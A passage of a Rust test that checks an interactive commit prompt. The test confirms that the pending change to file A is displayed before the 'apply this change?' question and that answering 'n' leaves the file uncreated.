        "s",
        "printf 'first line\\nsecond line\\n' > A",
    );
    ok(&bare(state.path(), &["stop", "s"]));
    // No "show" asked for: the answer is no.
    let out = commit_answering(state.path(), "s", "-i", b"n\n");
    ok(&out);
    let err = stderr(&out);
    let content = err.find("+second line").expect(&err);
    let question = err.find("apply this change?").expect(&err);
    assert!(content < question, "{err}");
    assert!(!proj.path().join("A").exists());
}
